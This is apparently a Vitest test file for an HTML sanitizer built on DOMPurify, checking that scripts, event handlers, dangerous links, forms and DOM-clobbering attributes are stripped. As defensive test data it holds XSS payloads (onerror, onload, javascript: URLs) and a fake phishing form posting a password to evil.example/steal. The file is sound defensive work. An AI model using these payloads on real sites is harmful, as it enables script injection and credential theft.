import DOMPurify from 'dompurify';
import { describe, expect, it, vi } from 'vitest';
import { renameParseTimeHazards, sanitizeHtml } from './sanitize-html.ts';

/** The sanitized HTML parsed into a fresh container, to ask what survived. */
function clean(html: string): HTMLElement {
  const box = document.createElement('div');
  box.innerHTML = sanitizeHtml(html);
  return box;
}

describe('sanitizeHtml', () => {
  it('cleans each text once: the same HTML shown again is not parsed again', () => {
    const html = `<p>Spin <b>twice</b> <img src=x onerror=alert(1)> ${Math.random()}</p>`;
    const sanitize = vi.spyOn(DOMPurify, 'sanitize');
    try {
      const first = sanitizeHtml(html);
      expect(sanitizeHtml(html)).toBe(first);
      expect(first).not.toContain('onerror');
      expect(sanitize).toHaveBeenCalledTimes(1);
    } finally {
      sanitize.mockRestore();
    }
  });

  it('keeps formatting, lists, tables and app links', () => {
    const box = clean(
      '<p>Hi <strong>you</strong> <em>there</em></p><ul><li>a</li></ul><table><tr><td>1</td></tr></table><a href="/promotions">Promos</a>',
    );
    expect(box.querySelector('strong')?.textContent).toBe('you');
    expect(box.querySelector('li')?.textContent).toBe('a');
    expect(box.querySelector('td')?.textContent).toBe('1');
    expect(box.querySelector('a')?.getAttribute('href')).toBe('/promotions');
    expect(box.querySelector('a')?.hasAttribute('target')).toBe(false);
  });

  it('opens outside links in a new tab that cannot reach back', () => {
    const link = clean('<a href="https://help.example/security" target="_self">Help</a>').querySelector('a');
    expect(link?.getAttribute('target')).toBe('_blank');
    expect(link?.getAttribute('rel')).toBe('noopener noreferrer');
  });

  it.each([
    ['a script', '<p>x</p><script>window.hit=1</script>', 'script'],
    ['an iframe', '<iframe src="https://evil.example"></iframe>', 'iframe'],
    ['a form', '<form action="https://evil.example"><input name="password"></form>', 'form, input'],
    ['a meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example">', 'meta'],
    ['a base', '<base href="https://evil.example/">', 'base'],
    ['a style element', '<style>body{display:none}</style>', 'style'],
    ['an svg with onload', '<svg onload="window.hit=1"></svg>', 'svg'],
  ])('drops %s', (_label, html, selector) => {
    expect(clean(html).querySelector(selector)).toBeNull();
  });

  it.each([
    ['img onerror', '<img src="x" onerror="window.hit=1">', 'img', 'onerror'],
    ['inline style (a fixed overlay)', '<div style="position:fixed;inset:0">x</div>', 'div', 'style'],
    ['an id that clobbers location', '<div id="location">x</div>', 'div', 'id'],
    ['a name that clobbers a form', '<img name="cookie" src="/a.png">', 'img', 'name'],
  ])('drops the attribute of %s', (_label, html, selector, attribute) => {
    const node = clean(html).querySelector(selector);
    expect(node?.hasAttribute(attribute) ?? false).toBe(false);
  });

  it.each([
    'javascript:alert(1)',
    ' JaVaScRiPt:alert(1)',
    'data:text/html,<script>x</script>',
    '//evil.example',
    '/\\evil.example',
    'vbscript:x',
  ])('drops the link %s but keeps its text', (href) => {
    const box = clean(`<a href="${href}">Open</a>`);
    expect(box.querySelector('a')?.hasAttribute('href') ?? false).toBe(false);
    expect(box.textContent).toBe('Open');
  });

  it('keeps the text of the hostile VIP statement and none of its effects', () => {
    const box = clean(
      `<p>Dear Val, your statement is ready.</p><script>document.title='pwned'</script><img src="x" onerror="document.title='pwned'" alt=""><a href="javascript:document.title='pwned'">Open statement</a><form action="https://evil.example/steal"><input name="password"></form><div id="location" style="position:fixed;inset:0;background:red">overlay</div>`,
    );
    expect(box.textContent).toContain('your statement is ready');
    expect(box.querySelectorAll('script, form, input, [style], [id], [onerror]')).toHaveLength(0);
    expect(box.querySelector('a')?.hasAttribute('href')).toBe(false);
  });
});

describe('renameParseTimeHazards', () => {
  it.each([
    ['an inline handler', '<img src="x" onerror="alert(1)">', '<img src="x" x-onerror="alert(1)">'],
    ['a handler after a quote or slash', '<svg/onload=alert(1)><a href="/"onclick=x>', '<svg/x-onload=alert(1)><a href="/"x-onclick=x>'],
    ['a base tag', '<BASE href="https://evil.example/"></base>', '<x-base href="https://evil.example/"></x-base>'],
  ])('renames %s before parsing', (_, html, renamed) => {
    expect(renameParseTimeHazards(html)).toBe(renamed);
  });

  it('leaves text outside tags alone, and what it renamed is dropped by the sanitizer', () => {
    expect(renameParseTimeHazards('<p>Spin on = win, base camp</p>')).toBe('<p>Spin on = win, base camp</p>');
    const box = clean('<img src="x" onerror="alert(1)"><base href="https://evil.example/"><p>kept</p>');
    expect(box.querySelector('[x-onerror], [onerror], x-base, base')).toBeNull();
    expect(box.textContent).toBe('kept');
  });
});
